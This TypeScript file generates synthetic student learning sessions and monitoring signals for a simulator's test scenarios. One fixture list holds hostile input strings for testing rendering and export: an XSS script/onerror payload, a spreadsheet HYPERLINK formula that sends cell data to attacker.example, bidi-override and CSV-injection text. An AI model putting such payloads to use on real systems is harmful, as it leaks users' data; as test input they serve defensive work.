/**
 * The weeks of the scenario students. Each week has something on Monday at 00:30 local time already, so that a
 * clock on a Monday morning or a weekend still finds this week's data.
 */
import { applicationCatalogue, hostileApplications, namedApplications } from './application-catalogue.ts';
import type { Week } from './calendar.ts';
import type { Plan, PlanInput, PlannedSession } from './planned-session.ts';
import type { Random } from './random.ts';
import { placeSignals, type Signal } from './signals.ts';

const hour = 3_600_000;

type SessionTraits = Partial<Omit<PlannedSession, 'startedAt' | 'endedAt' | 'insights'>>;

function toSession(
  startedAt: number,
  seconds: number,
  signals: readonly Signal[],
  random: Random,
  traits: SessionTraits = {},
): PlannedSession {
  const endedAt = startedAt + seconds * 1000;
  return {
    applicationId: namedApplications.math.sourcedId,
    webcamEnabled: true,
    isProctored: false,
    isRecorded: false,
    ...traits,
    startedAt,
    endedAt,
    insights: placeSignals(signals, { startedAt, endedAt }, random),
  };
}

const usualTimes = [
  { dayIndex: 0, minuteOfDay: 30, minutes: 45 },
  { dayIndex: 0, minuteOfDay: 600, minutes: 40 },
  { dayIndex: 1, minuteOfDay: 545, minutes: 50 },
  { dayIndex: 1, minuteOfDay: 780, minutes: 30 },
  { dayIndex: 2, minuteOfDay: 630, minutes: 35 },
  { dayIndex: 3, minuteOfDay: 555, minutes: 45 },
  { dayIndex: 4, minuteOfDay: 660, minutes: 55 },
];

const usualApplications = [
  namedApplications.math,
  namedApplications.reading,
  namedApplications.science,
  namedApplications.writing,
  namedApplications.coding,
].map(({ sourcedId }) => sourcedId);

const usualSignals: readonly (readonly Signal[])[] = [
  [
    { insightType: 'EyesOffScreen', seconds: 95 },
    { insightType: 'NonLearningContent', seconds: 210 },
  ],
  [{ insightType: 'AwayFromSeat', seconds: 180 }],
  [
    { insightType: 'Game', seconds: 260 },
    { insightType: 'TopicShopping', seconds: 75 },
    { insightType: 'Idling', seconds: 120 },
  ],
  [],
  [
    { insightType: 'Socializing', seconds: 140 },
    { insightType: 'SkipAssessment', seconds: 40 },
  ],
];

interface WeekShape {
  /** Signals of the sessions, repeated in turn. */
  readonly signals?: readonly (readonly Signal[])[];
  /** What is special about the session with this number in its week. */
  readonly traits?: (index: number) => SessionTraits;
}

function cycle<T>(items: readonly T[], index: number): T {
  const item = items[index % items.length];
  if (item === undefined) throw new RangeError('There is nothing to repeat.');
  return item;
}

function toUsualWeek(week: Week, { stream }: PlanInput, shape: WeekShape): readonly PlannedSession[] {
  return usualTimes.map(({ dayIndex, minuteOfDay, minutes }, index) => {
    const startedAt = week.at(dayIndex, minuteOfDay);
    return toSession(
      startedAt,
      minutes * 60,
      cycle(shape.signals ?? usualSignals, index),
      stream(`signals/${startedAt}`),
      { applicationId: cycle(usualApplications, index), ...shape.traits?.(index) },
    );
  });
}

/** Seven sessions in every week of the term. */
export function planUsualWeeks(shape: WeekShape = {}): Plan {
  return (input) => input.weeks.flatMap((week) => toUsualWeek(week, input, shape));
}

export const planNothing: Plan = () => [];

/** One session of 40 seconds, 12 of them off task: a percentage that means nothing. */
export const planThin: Plan = ({ weeks, stream }) =>
  weeks.map((week) =>
    toSession(week.at(0, 30), 40, [{ insightType: 'EyesOffScreen', seconds: 12 }], stream(week.monday)),
  );

/** Two sessions on Monday and nothing else. */
export const planSingleDay: Plan = (input) =>
  input.weeks.flatMap((week) => toUsualWeek(week, input, {}).slice(0, 2));

/**
 * The usual weeks, also those of the last two clock changes, and around each change three sessions: on the evening
 * before, right through the change, and later on that day.
 */
export const planClockChange: Plan = (input) => {
  const { calendar, stream } = input;
  const end = input.weeks.at(-1)?.dayStarts[7] ?? 0;
  const changes = calendar.clockChangesBefore(end, 2);
  const weeks = new Set([...input.weeks, ...changes.map((change) => calendar.weekOf(change))]);
  const nights = changes.flatMap((change) => {
    const random = stream(`change/${change}`);
    return [
      toSession(change - 8 * hour, 40 * 60, cycle(usualSignals, 0), random),
      toSession(change - hour / 2, 80 * 60, cycle(usualSignals, 2), random),
      toSession(change + 8 * hour, 50 * 60, cycle(usualSignals, 1), random),
    ];
  });
  return withoutOverlap([...nights, ...planUsualWeeks()({ ...input, weeks: [...weeks] })]);
};

/** Keeps the earlier-named of two sessions that overlap: a student has one session at a time. */
function withoutOverlap(sessions: readonly PlannedSession[]): readonly PlannedSession[] {
  const kept: PlannedSession[] = [];
  for (const session of sessions) {
    const isFree = kept.every(
      ({ startedAt, endedAt }) => session.endedAt <= startedAt || endedAt <= session.startedAt,
    );
    if (isFree) kept.push(session);
  }
  return kept;
}

/** A session over each midnight from Sunday to Monday and from Wednesday to Thursday, off task on the stroke. */
export const planMidnight: Plan = ({ weeks }) =>
  weeks.flatMap((week) =>
    [week.at(0, 0), week.at(3, 0)].map((midnight, index) => ({
      applicationId: cycle(usualApplications, index),
      startedAt: midnight - 40 * 60_000,
      endedAt: midnight + 35 * 60_000,
      webcamEnabled: true,
      isProctored: false,
      isRecorded: false,
      insights: [
        {
          insightType: 'NonLearningContent',
          reason: 'A video site was open beside the lesson, over midnight',
          startedAt: midnight - 4 * 60_000,
          endedAt: midnight + 6 * 60_000,
        },
      ],
    })),
  );

/** No camera and an application whose waste meter is off: nothing was measured. */
export const planNotObserved = planUsualWeeks({
  signals: [[]],
  traits: () => ({ webcamEnabled: false, applicationId: namedApplications.unmeasured.sourcedId }),
});

/** Hourly sessions on school days, ten past to ten past, and always one that is running now. */
export const planToday: Plan = ({ weeks, runningSince, stream }) => {
  const starts = new Set<number>([runningSince]);
  for (const week of weeks) {
    for (const dayIndex of [0, 1, 2, 3, 4]) {
      // Counted from the running session, so that in school hours it is one of these.
      const opening = week.at(dayIndex, 8 * 60);
      const first = opening + ((((runningSince - opening) % hour) + hour) % hour);
      for (let start = first; start + hour <= week.at(dayIndex, 15 * 60); start += hour) starts.add(start);
    }
  }
  return [...starts].map((startedAt) =>
    toSession(
      startedAt,
      60 * 60,
      cycle(usualSignals, Math.floor(startedAt / hour)),
      stream(`signals/${startedAt}`),
      { applicationId: cycle(usualApplications, Math.floor(startedAt / hour)) },
    ),
  );
};

export const planUnknownLevel = planUsualWeeks({
  signals: [
    [
      { insightType: 'BackgroundNoise', seconds: 240, reason: 'Loud voices in the room' },
      { insightType: 'EyesOffScreen', seconds: 60 },
    ],
    [{ insightType: 'Slouching', seconds: 150, reason: 'Student lay on the desk' }],
  ],
});

export const planUnknownType = planUsualWeeks({
  signals: [
    [{ insightType: 'RapidGuessing', seconds: 180, reason: 'Six answers within ten seconds' }],
    [
      { insightType: 'focus_drift_v2', seconds: 130, reason: 'Focus moved between windows' },
      { insightType: 'NonLearningContent', seconds: 90 },
    ],
  ],
});

export const planUnknownResult = planUsualWeeks({
  traits: (index) => ({
    applicationId: namedApplications.check.sourcedId,
    isProctored: true,
    proctoredResult: cycle(['PENDING_REVIEW', 'FLAGGED', 'voided-by-proctor'], index),
  }),
});

/** Well formed, and in no list of applications. */
const unlistedApplicationId = '0ddba115-0000-4000-8000-00000000dead';

export const planUnknownApplication = planUsualWeeks({
  traits: (index) => (index % 2 === 0 ? { applicationId: unlistedApplicationId } : {}),
});

const hostileReasons = [
  '<script>document.title = "taken over"</script><img src=x onerror=alert(1)>',
  'Overridden \u202Enwod edispu\u202C and isolated \u2067text\u2069',
  'Emoji 👩🏽‍🏫🏳️‍🌈 and Z̷̢̛a̸̡l̵̨g̶o',
  '=HYPERLINK("https://attacker.example?leak="&A1,"Open me")',
  'endless'.repeat(300).slice(0, 2000),
  '+1+1\t@SUM(A1:A9)\r\n-2;"quoted",comma',
];

export const planHostileText = planUsualWeeks({
  signals: hostileReasons.map((reason) => [{ insightType: 'NonLearningContent', seconds: 120, reason }]),
  traits: (index) => ({ applicationId: cycle(hostileApplications, index).sourcedId }),
});

const safetySignals: readonly Signal[] = [
  'BullyingOrHarassment',
  'EmbarrassingOrDefaming',
  'MentalHealthDistress',
  'PornographyOrSexualContent',
  'SelfHarmOrSuicide',
  'SubstanceAbuse',
  'ViolenceOrAbuse',
  'WebcamNudity',
].map((insightType) => ({ insightType, seconds: 30, reason: 'A made-up safety signal of the simulator' }));

export const planSafety = planUsualWeeks({
  signals: [
    [...safetySignals.slice(0, 3), { insightType: 'EyesOffScreen', seconds: 95 }],
    [{ insightType: 'Game', seconds: 160 }, ...safetySignals.slice(3, 6)],
    [{ insightType: 'Idling', seconds: 100 }, ...safetySignals.slice(6)],
  ],
});

export const planProctored = planUsualWeeks({
  signals: [
    [{ insightType: 'UnauthorizedAppUse', seconds: 65 }],
    [
      { insightType: 'HelpFromAnotherPerson', seconds: 50 },
      { insightType: 'EyesOffScreen', seconds: 80 },
    ],
    [],
  ],
  traits: (index) => {
    if (index === 5) return {};
    const isRecorded = index % 3 !== 2;
    const application = { applicationId: namedApplications.check.sourcedId, isProctored: true, isRecorded };
    // One proctored session has no result yet.
    return index === 4
      ? application
      : { ...application, proctoredResult: cycle(['PASSED', 'FAILED', 'PASSED', 'INCONCLUSIVE'], index) };
  },
});

/** How many sessions a week of the student with very many has. */
const sessionsInHugeWeek = 400;

/** How many insights the first session of each such week has. */
const insightsInHugeSession = 437;

/** A session every 25 minutes, day and night: 1,200 in any three whole weeks. */
export const planHuge: Plan = ({ weeks, stream }) =>
  weeks.flatMap((week) => {
    const random = stream(week.monday);
    return Array.from({ length: sessionsInHugeWeek }, (_, index) => {
      const startedAt = week.at(0, 30) + index * 25 * 60_000;
      const signals =
        index === 0
          ? Array.from({ length: insightsInHugeSession }, (_signal, number) => ({
              insightType: cycle(['EyesOffScreen', 'Idling', 'NonLearningContent'], number),
              seconds: 1 + (number % 3),
            }))
          : cycle(usualSignals, index);
      return toSession(startedAt, index === 0 ? 24 * 60 : random.integer(12, 20) * 60, signals, random, {
        // Every application in turn.
        applicationId: cycle(applicationCatalogue, index).sourcedId,
      });
    });
  });

/**
 * One session on Monday just after midnight, whose signals keep to no rule: some of a type overlap, some take no time,
 * some lie together within seconds, one comes over midnight into the session and one goes on after it. Signals that count
 * as off-task time do not overlap here either: how the platform sums those is not known.
 */
export const planUnrulySignals: Plan = ({ weeks }) =>
  weeks.map((week) => {
    const startedAt = week.at(0, 20);
    const toInsight = (insightType: string, second: number, seconds: number, reason: string) => ({
      insightType,
      reason,
      startedAt: startedAt + second * 1000,
      endedAt: startedAt + (second + seconds) * 1000,
    });
    return {
      applicationId: namedApplications.check.sourcedId,
      startedAt,
      endedAt: startedAt + 50 * 60_000,
      webcamEnabled: true,
      isProctored: true,
      proctoredResult: 'PASSED',
      isRecorded: true,
      insights: [
        toInsight('EyesOffScreen', -25 * 60, 27 * 60, 'Gaze was off the screen before the session began'),
        toInsight('NonLearningContent', 5 * 60, 4 * 60, 'A video site was open beside the lesson'),
        toInsight('Idling', 14 * 60, 0, 'Nothing happened, and that for no time at all'),
        toInsight('Idling', 46 * 60, 12 * 60, 'No input until after the session had ended'),
        toInsight('UnauthorizedAppUse', 10 * 60, 9 * 60, 'A calculator app was open'),
        toInsight('UnauthorizedAppUse', 12 * 60, 5 * 60, 'A second app was open at the same time'),
        toInsight(
          'UnauthorizedAppUse',
          16 * 60,
          8 * 60,
          'A third app was opened before the others were closed',
        ),
        toInsight('HelpFromAnotherPerson', 30 * 60, 0, 'A second voice, too short to be timed'),
        toInsight('HelpFromAnotherPerson', 30 * 60, 0, 'A second face, at the very same moment'),
        ...[0, 3, 5, 9, 14].map((second, index) =>
          toInsight(
            'screen_glance_v3',
            22 * 60 + second,
            index % 2,
            'A glance that the guide has no word for',
          ),
        ),
        toInsight('PostureShift', 35 * 60, 90, 'Student leaned back'),
        toInsight('PostureShift', 35 * 60 + 30, 90, 'Student leaned forward before leaning back was over'),
      ],
    };
  });

/** How many signals the session of the student with very many signals has. */
const signalsInDenseSession = 5000;

/** One session of six hours in the current week, with signals of every kind packed into it. */
export const planDenseSession: Plan = ({ weeks, stream }) =>
  weeks.slice(-1).map((week) =>
    toSession(
      week.at(0, 30),
      6 * 60 * 60,
      Array.from({ length: signalsInDenseSession }, (_, index) => ({
        insightType: cycle(
          [
            'EyesOffScreen',
            'Idling',
            'NonLearningContent',
            'Socializing',
            'TopicShopping',
            'Game',
            'UnauthorizedAppUse',
            'HelpFromAnotherPerson',
            'RapidGuessing',
          ],
          index,
        ),
        seconds: index % 50 === 0 ? 60 : index % 4,
      })),
      stream(`dense/${week.monday}`),
      { applicationId: namedApplications.check.sourcedId, isProctored: true, isRecorded: true },
    ),
  );

/** How many sessions a week of the student with 5,000 has. They fit into a week that a clock change makes an hour shorter. */
const sessionsInFullestWeek = 1700;

/** A session of two to five minutes every 350 seconds, day and night: 5,100 in any three whole weeks. */
export const planFiveThousand: Plan = ({ weeks, stream }) =>
  weeks.flatMap((week) => {
    const random = stream(week.monday);
    return Array.from({ length: sessionsInFullestWeek }, (_, index) => {
      const startedAt = week.at(0, 30) + index * 350_000;
      const signals =
        index % 2 === 0
          ? []
          : [{ insightType: cycle(['EyesOffScreen', 'Idling', 'Game'], index), seconds: 5 + (index % 90) }];
      return toSession(startedAt, random.integer(120, 300), signals, random, {
        applicationId: cycle(usualApplications, index),
        isProctored: index % 10 === 0,
        ...(index % 10 === 0 && { proctoredResult: 'PASSED' }),
      });
    });
  });
